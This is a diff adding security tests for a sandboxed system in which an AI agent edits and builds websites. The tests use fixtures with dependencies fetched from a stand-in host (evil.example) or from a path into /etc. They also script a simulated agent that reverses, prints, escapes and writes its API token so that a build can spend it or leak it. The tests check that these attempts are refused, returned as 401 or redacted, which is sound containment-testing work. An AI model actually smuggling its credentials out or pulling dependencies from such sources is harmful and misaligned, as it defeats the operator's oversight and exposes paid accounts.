@@ -322,6 +322,94 @@ def test_a_site_with_a_build_is_built_in_another_box_after_the_agent_s_is_gone(
     assert done.index("teardown") < done.index("build") < done.index("scan")
 
 
+@pytest.mark.threat("D8")
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("package.json", {"dependencies": {"three": "git+https://evil.example/three.git"}}),
+        ("package.json", {"dependencies": {"three": "1"}, "overrides": {"a": {"b": "http://evil.example/b.tgz"}}}),
+        ("w/package.json", {"dependencies": {"three": "file:../../etc"}}),
+        ("package-lock.json", {"packages": {"node_modules/three": {"resolved": "http://evil.example/three.tgz"}}}),
+        ("npm-shrinkwrap.json", {"dependencies": {"three": {"version": "git+ssh://git@evil.example/three"}}}),
+    ],
+)
+def test_packages_from_elsewhere_are_refused_before_npm_sees_them(
+    rig: Rig, maker: PlayedMaker, tmp_path: Path, path: str, content: dict[str, object]
+) -> None:
+    files = {"package.json": json.loads(PACKAGE)}
+    files[path] = files.get(path, {}) | content
+    writes = "\n".join(f"write({name!r}, {json.dumps(value)!r})" for name, value in files.items())
+    maker.program("claude", f"init()\n{writes}\nresult()")
+    maker.program("npm", NPM)
+    site = plain_site(rig, tmp_path)
+    job = edit(rig, site, maker)
+    assert (job.state, job.reason) == ("failed", "output_refused")
+    assert job.detail is not None
+    assert f"{path} wants a package from elsewhere" in job.detail
+    assert [command for box in maker.boxes[1:] for command in box.commands] == []
+    assert path in rig.files(job.release_id), "what the agent did is kept"
+    check_nothing_happened(rig, site, maker)
+
+
+@pytest.mark.threat("C2")
+def test_a_build_cannot_spend_with_a_token_that_the_agent_left_to_it(
+    rig: Rig, maker: PlayedMaker, tmp_path: Path
+) -> None:
+    hidden = '"".join(reversed(os.environ["ANTHROPIC_AUTH_TOKEN"]))'
+    maker.program(
+        "claude",
+        f'init()\nassert call()[0] == 200\nwrite("package.json", {PACKAGE!r})\nwrite("a.txt", {hidden})\nresult()',
+    )
+    spends = """
+url = "GATEWAY/v1/messages"
+token = "".join(reversed(pathlib.Path("a.txt").read_text()))
+headers = {"authorization": "Bearer " + token, "content-type": "application/json"}
+body = {"model": "claude-sonnet-4-5", "max_tokens": 1024, "messages": [{"role": "user", "content": "x"}]}
+try:
+    status = urllib.request.urlopen(urllib.request.Request(url, json.dumps(body).encode(), headers)).status
+except urllib.error.HTTPError as error:
+    status = error.code
+pathlib.Path("status.txt").write_text(str(status))
+"""
+    imports = "import json, pathlib, urllib.error, urllib.request"
+    maker.program("npm", imports + spends.replace("GATEWAY", rig.resources.gateway_url))
+    job = edit(rig, plain_site(rig, tmp_path), maker)
+    assert (job.state, job.detail) == ("awaiting_approval", None)
+    assert rig.files(job.release_id)["status.txt"] == b"401"
+    assert rig.shop.scalar("SELECT count(*) FROM call WHERE job_id = :id", id=job.id) == 1
+
+
+@pytest.mark.threat("C9")
+def test_a_token_that_an_agent_prints_or_writes_is_in_no_record_and_in_no_release(
+    rig: Rig, maker: PlayedMaker, tmp_path: Path
+) -> None:
+    spelled = '"".join(f"\\\\u{ord(c):04x}" for c in token)'
+    maker.program("claude", f"""
+init()
+token = os.environ["ANTHROPIC_AUTH_TOKEN"]
+put(type="assistant", message={{"content": [{{"type": "text", "text": "It is " + token}}]}})
+sys.stdout.write('{{"type":"assistant","message":{{"content":[{{"type":"text","text":"' + {spelled} + '"}}]}}}}\\n')
+use("Bash", command="echo " + token)
+write("seen.txt", token)
+result("The token is " + token)
+""")  # fmt: skip
+    site = plain_site(rig, tmp_path)
+    job = edit(rig, site, maker)
+    ((env,),) = [box.environments for box in maker.boxes]
+    assert (job.state, job.reason) == ("failed", "scan_refused")
+    assert job.detail is not None
+    assert "seen.txt" in job.detail
+    told = rig.shop.rows(
+        "SELECT data ->> 'text' FROM event WHERE job_id = :id AND kind = 'progress' ORDER BY id", id=job.id
+    )
+    assert [text for (text,) in told[:3]] == ["It is [token]", "[token]", "Bash echo [token]"]
+    everything = rig.shop.rows("SELECT to_jsonb(event)::text FROM event UNION ALL SELECT to_jsonb(job)::text FROM job"
+                               " UNION ALL SELECT to_jsonb(attempt)::text FROM attempt"
+                               " UNION ALL SELECT to_jsonb(release)::text FROM release")  # fmt: skip
+    assert not any(env["ANTHROPIC_AUTH_TOKEN"] in row for (row,) in everything)
+    check_nothing_happened(rig, site, maker)
+
+
 @pytest.mark.req("H-080")
 def test_a_site_without_a_build_gets_no_second_box(rig: Rig, maker: PlayedMaker, tmp_path: Path) -> None:
     maker.program("claude", WORKS)
